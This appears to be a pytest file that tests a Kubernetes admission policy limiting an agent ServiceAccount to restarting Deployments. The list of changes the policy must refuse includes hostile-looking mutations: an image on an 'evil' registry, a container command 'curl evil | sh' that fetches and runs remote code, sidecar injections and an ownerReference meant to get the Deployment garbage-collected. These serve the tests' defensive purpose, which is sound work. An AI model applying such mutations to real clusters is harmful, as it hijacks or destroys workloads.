"""The Deployment admission policy (k8s/base/rbac/deployment-patches.yaml, issue 17 point 7).

An agent ServiceAccount's UPDATE of a Deployment may add or change the pod-template annotation
``kubectl.kubernetes.io/restartedAt`` (``kubectl rollout restart``) and nothing else an agent could
set: every other spec field, the pod template, the Deployment's labels and annotations.

The emulator (tests/support/k8s) does not evaluate ValidatingAdmissionPolicies and no CEL library is
in the lock, so the expressions are evaluated here with tests/manifests/cel.py (a strict
interpreter of the CEL subset they use) against old/new Deployments shaped as the API server
hands them to admission. That checks what the expressions mean, not that a kube-apiserver's type
checker accepts them; the shape checks below keep them to constructs it does (has() guards, map
macros, no optional types, no object construction).
"""

from __future__ import annotations

import copy
import re
from collections.abc import Callable
from typing import Any

import pytest
from kubernetes_asyncio.client import V1DeploymentSpec, V1ObjectMeta, V1PodTemplateSpec

from tests.manifests import cel, render

POLICY = "agentjobs-agent-deployment-patches"
RESTARTED_AT = "kubectl.kubernetes.io/restartedAt"
REVISION = "deployment.kubernetes.io/revision"
AGENT = "system:serviceaccount:agentjobs-runs:agentjobs-agent-limited-remediation"
# Pod-template metadata the API server or the ReplicaSet controller manage; never copied into pods
# (the controller copies labels, annotations and finalizers), so not compared (see the policy).
TEMPLATE_METADATA_NOT_COMPARED = {
    "creationTimestamp", "deletionTimestamp", "generation", "managedFields", "resourceVersion", "selfLink", "uid",
}
# Deployment metadata the policy freezes; the rest is server-managed (resourceVersion, generation,
# managedFields, ...) or immutable (name, namespace, uid).
DEPLOYMENT_METADATA_FROZEN = {"labels", "annotations", "ownerReferences", "finalizers"}


@pytest.fixture(scope="module")
def policy(rendered) -> dict:
    objs = rendered["production"]
    return render.one(objs, "ValidatingAdmissionPolicy", POLICY)


@pytest.fixture(scope="module")
def stored(rendered) -> dict:
    """A Deployment as the API server stores it: defaulted, annotated by the controller and by kubectl apply."""
    d = copy.deepcopy(render.one(rendered["production"], "Deployment", "agentjobs-dispatcher"))
    d["metadata"].update({
        "uid": "0f1e2d3c-0000-4000-8000-000000000001", "resourceVersion": "41", "generation": 3,
        "creationTimestamp": "2026-11-01T00:00:00Z",
        "managedFields": [{"manager": "kubectl-client-side-apply", "operation": "Update"}],
    })
    d["metadata"].setdefault("annotations", {}).update({
        REVISION: "3", "kubectl.kubernetes.io/last-applied-configuration": '{"kind":"Deployment"}',
    })
    d["spec"].setdefault("progressDeadlineSeconds", 600)  # API defaults
    d["spec"]["template"]["metadata"].setdefault("annotations", {})["prometheus.io/scrape"] = "true"
    d["status"] = {"observedGeneration": 3, "replicas": 2}
    return d


def _evaluators(policy: dict) -> tuple[list[Callable[..., Any]], list[tuple[Callable[..., Any], str]]]:
    spec = policy["spec"]
    conditions = [cel.compile(c["expression"]) for c in spec["matchConditions"]]
    validations = [(cel.compile(v["expression"]), v["message"]) for v in spec["validations"]]
    return conditions, validations


def refusals(policy: dict, old: dict, new: dict, username: str = AGENT) -> list[str]:
    """The messages of the validations that deny this UPDATE (empty: admitted)."""
    conditions, validations = _evaluators(policy)
    request = {"userInfo": {"username": username}, "operation": "UPDATE", "subResource": ""}
    if not all(c(request=request, object=new, oldObject=old) for c in conditions):
        return []
    return [message for check, message in validations if not check(request=request, object=new, oldObject=old)]


def _as_server_writes_it(old: dict, mutate: Callable[[dict], None]) -> dict:
    """The new object after the agent's change, with what the API server changes on every write."""
    new = copy.deepcopy(old)
    mutate(new)
    new["metadata"]["resourceVersion"] = str(int(old["metadata"]["resourceVersion"]) + 1)
    new["metadata"]["generation"] = old["metadata"]["generation"] + 1
    new["metadata"]["managedFields"] = old["metadata"]["managedFields"] + [
        {"manager": "kubectl-rollout", "operation": "Update"}]
    return new


def _restart(d: dict, at: str = "2026-11-26T02:06:00Z") -> None:
    d["spec"]["template"]["metadata"].setdefault("annotations", {})[RESTARTED_AT] = at


def _pod(d: dict) -> dict:
    return d["spec"]["template"]["spec"]


def _template_meta(d: dict) -> dict:
    return d["spec"]["template"]["metadata"]


# -- admitted ---------------------------------------------------------------------------------

ADMITTED: dict[str, Callable[[dict], None]] = {
    "kubectl rollout restart (restartedAt added)": _restart,
    "a no-op update": lambda d: None,
    "the controller's revision annotation moves": lambda d: d["metadata"]["annotations"].update({REVISION: "4"}),
}


@pytest.mark.parametrize("change", ADMITTED, ids=list(ADMITTED))
def test_agents_may_restart(policy, stored, change) -> None:
    assert refusals(policy, stored, _as_server_writes_it(stored, ADMITTED[change])) == []


def test_a_second_restart_changes_restarted_at(policy, stored) -> None:
    once = _as_server_writes_it(stored, _restart)
    twice = _as_server_writes_it(once, lambda d: _restart(d, "2026-11-26T03:00:00Z"))

    assert refusals(policy, once, twice) == []


def test_restart_of_a_deployment_whose_pod_template_has_no_annotations(policy, stored) -> None:
    bare = copy.deepcopy(stored)
    del _template_meta(bare)["annotations"]

    assert refusals(policy, bare, _as_server_writes_it(bare, _restart)) == []


def test_restart_of_a_deployment_without_labels_or_annotations(policy, stored) -> None:
    bare = copy.deepcopy(stored)
    del bare["metadata"]["labels"], bare["metadata"]["annotations"]

    assert refusals(policy, bare, _as_server_writes_it(bare, _restart)) == []


# -- refused ----------------------------------------------------------------------------------


def _set(path: str, value: Any) -> Callable[[dict], None]:
    def mutate(d: dict) -> None:
        *parents, leaf = path.split(".")
        for p in parents:
            d = d.setdefault(p, {})
        d[leaf] = value
    return mutate


def _drop(path: str) -> Callable[[dict], None]:
    def mutate(d: dict) -> None:
        *parents, leaf = path.split(".")
        for p in parents:
            d = d[p]
        del d[leaf]
    return mutate


REFUSED: dict[str, Callable[[dict], None]] = {
    # spec, one field at a time
    "pause": _set("spec.paused", True),
    "revisionHistoryLimit 0 (drops the history rollout undo needs)": _set("spec.revisionHistoryLimit", 0),
    "revisionHistoryLimit removed": _drop("spec.revisionHistoryLimit"),
    "progressDeadlineSeconds": _set("spec.progressDeadlineSeconds", 2147483647),
    "minReadySeconds": _set("spec.minReadySeconds", 3600),
    "replicas (scale goes through deployments/scale)": _set("spec.replicas", 0),
    "selector": _set("spec.selector.matchLabels", {"app": "other"}),
    "strategy": _set("spec.strategy", {"type": "Recreate"}),
    # the pod template
    "image": lambda d: _pod(d)["containers"][0].update({"image": "evil.example/dispatcher:latest"}),
    "command": lambda d: _pod(d)["containers"][0].update({"command": ["sh", "-c", "curl evil | sh"]}),
    "a sidecar container": lambda d: _pod(d)["containers"].append({"name": "side", "image": "busybox"}),
    "service account": lambda d: _pod(d).update({"serviceAccountName": "default"}),
    "a sidecar-injector annotation": lambda d: _template_meta(d)["annotations"].update(
        {"sidecar.istio.io/inject": "true"}),
    "a Vault agent injector annotation with a restart": lambda d: (
        _restart(d), _template_meta(d)["annotations"].update({"vault.hashicorp.com/agent-inject": "true"})),
    "an existing pod annotation changed": lambda d: _template_meta(d)["annotations"].update(
        {"prometheus.io/scrape": "false"}),
    "an existing pod annotation removed": lambda d: _template_meta(d)["annotations"].pop("prometheus.io/scrape"),
    "every pod annotation removed": _drop("spec.template.metadata.annotations"),
    "a pod label changed": lambda d: _template_meta(d)["labels"].update({"app.kubernetes.io/name": "x"}),
    "a pod label added": lambda d: _template_meta(d)["labels"].update({"sidecar.istio.io/inject": "true"}),
    "a pod finalizer": _set("spec.template.metadata.finalizers", ["example.com/hold"]),
    "a pod template name": _set("spec.template.metadata.generateName", "evil-"),
    "a pod owner": _set("spec.template.metadata.ownerReferences", [{"apiVersion": "v1", "kind": "Pod",
                                                                    "name": "x", "uid": "1"}]),
    # the Deployment's own metadata
    "a Deployment label changed": lambda d: d["metadata"]["labels"].update({"app.kubernetes.io/name": "x"}),
    "a Deployment label added": lambda d: d["metadata"]["labels"].update({"team": "red"}),
    "every Deployment label removed": _drop("metadata.labels"),
    "a Deployment annotation added": lambda d: d["metadata"]["annotations"].update({"example.com/owner": "me"}),
    "last-applied-configuration changed": lambda d: d["metadata"]["annotations"].update(
        {"kubectl.kubernetes.io/last-applied-configuration": "{}"}),
    "last-applied-configuration removed": lambda d: d["metadata"]["annotations"].pop(
        "kubectl.kubernetes.io/last-applied-configuration"),
    "an owner that does not exist (the garbage collector would delete the Deployment)": _set(
        "metadata.ownerReferences", [{"apiVersion": "v1", "kind": "ConfigMap", "name": "gone", "uid": "2"}]),
    "a finalizer": _set("metadata.finalizers", ["example.com/never"]),
}


@pytest.mark.parametrize("change", REFUSED, ids=list(REFUSED))
def test_agents_may_change_nothing_else(policy, stored, change) -> None:
    assert refusals(policy, stored, _as_server_writes_it(stored, REFUSED[change]))


@pytest.mark.parametrize("change", REFUSED, ids=list(REFUSED))
def test_a_restart_does_not_carry_anything_else_through(policy, stored, change) -> None:
    new = _as_server_writes_it(stored, lambda d: (_restart(d), REFUSED[change](d)))

    assert refusals(policy, stored, new)


def test_restarted_at_may_not_be_removed(policy, stored) -> None:
    restarted = _as_server_writes_it(stored, _restart)
    undone = _as_server_writes_it(restarted, lambda d: _template_meta(d)["annotations"].pop(RESTARTED_AT))

    assert refusals(policy, restarted, undone)


def test_refusals_name_what_was_refused(policy, stored) -> None:
    (paused,) = refusals(policy, stored, _as_server_writes_it(stored, REFUSED["pause"]))
    (sidecar,) = refusals(policy, stored, _as_server_writes_it(stored, REFUSED["a sidecar-injector annotation"]))
    (label,) = refusals(policy, stored, _as_server_writes_it(stored, REFUSED["a Deployment label added"]))

    assert "paused" in paused
    assert RESTARTED_AT in sidecar
    assert "labels" in label


def test_other_users_are_not_matched(policy, stored) -> None:
    paused = _as_server_writes_it(stored, REFUSED["pause"])

    assert refusals(policy, stored, paused, "system:serviceaccount:agentjobs-system:agentjobs-dispatcher") == []
    assert refusals(policy, stored, paused, "kubernetes-admin") == []
    assert refusals(policy, stored, paused, "system:serviceaccount:agentjobs-runs:agentjobs-agent-autonomous")


# -- what the policy covers and how it is written --------------------------------------------


def _text(policy: dict) -> str:
    return "\n".join(v["expression"] for v in policy["spec"]["validations"])


def _compares(text: str, path: str) -> bool:
    """Both objects' ``path`` are compared (or iterated) somewhere."""
    return all(re.search(rf"\b{side}\.{re.escape(path)}\b(?![.\w])", text) for side in ("object", "oldObject"))


@pytest.mark.parametrize("field", sorted(set(V1DeploymentSpec.attribute_map.values()) - {"template"}))
def test_every_deployment_spec_field_but_the_template_is_frozen(policy, field) -> None:
    text = _text(policy)

    assert _compares(text, f"spec.{field}"), field
    assert f"has(object.spec.{field}) == has(oldObject.spec.{field})" in text  # set or unset counts as a change


def test_the_pod_spec_is_frozen_whole(policy) -> None:
    assert set(V1PodTemplateSpec.attribute_map.values()) == {"metadata", "spec"}
    assert "object.spec.template.spec == oldObject.spec.template.spec" in _text(policy)


@pytest.mark.parametrize("field", sorted(set(V1ObjectMeta.attribute_map.values()) - TEMPLATE_METADATA_NOT_COMPARED))
def test_pod_template_metadata_is_frozen_but_for_restarted_at(policy, field) -> None:
    assert _compares(_text(policy), f"spec.template.metadata.{field}"), field


def test_only_restarted_at_is_exempt_in_the_pod_template_annotations(policy) -> None:
    (annotations,) = [v["expression"] for v in policy["spec"]["validations"]
                      if "spec.template.metadata.annotations" in v["expression"]]

    assert set(re.findall(r"k == '([^']+)'", annotations)) == {RESTARTED_AT}


@pytest.mark.parametrize("field", sorted(DEPLOYMENT_METADATA_FROZEN))
def test_deployment_metadata_an_agent_could_set_is_frozen(policy, field) -> None:
    assert _compares(_text(policy), f"metadata.{field}"), field


def test_only_the_controllers_revision_is_exempt_in_the_deployment_annotations(policy) -> None:
    (annotations,) = [v["expression"] for v in policy["spec"]["validations"] if "object.metadata.annotations" in
                      v["expression"]]

    assert set(re.findall(r"k == '([^']+)'", annotations)) == {REVISION}


def test_server_managed_metadata_is_not_compared(policy) -> None:
    text = _text(policy)
    for field in ("resourceVersion", "generation", "managedFields", "uid", "creationTimestamp"):
        assert not re.search(rf"\bobject\.metadata\.{field}\b", text), field
    assert "status" not in text


def test_the_scale_subresource_stays_unmatched(policy) -> None:
    (rule,) = policy["spec"]["matchConstraints"]["resourceRules"]

    # `deployments` matches no subresource: deployments/scale (autonomous phase) is not matched,
    # and neither is anything with a wildcard.
    assert rule["resources"] == ["deployments"]
    assert rule["operations"] == ["UPDATE"]
    assert "excludeResourceRules" not in policy["spec"]["matchConstraints"]


def test_the_policy_fails_closed_and_denies(rendered, policy) -> None:
    binding = render.one(rendered["production"], "ValidatingAdmissionPolicyBinding", POLICY)

    assert policy["spec"]["failurePolicy"] == "Fail"
    assert binding["spec"]["validationActions"] == ["Deny"]


def test_expressions_use_only_what_kubernetes_130_cel_has(policy) -> None:
    for v in policy["spec"]["validations"]:
        expression = v["expression"]
        cel.compile(expression)  # inside the subset
        # No optional types (`?.`, orValue), no object construction, no filter-as-map.
        assert ".?" not in expression and "orValue" not in expression and "Object{" not in expression
        assert ".filter(" not in expression  # on a map it yields a list of keys: it cannot compare values
        assert v["reason"] == "Forbidden" and v["message"]
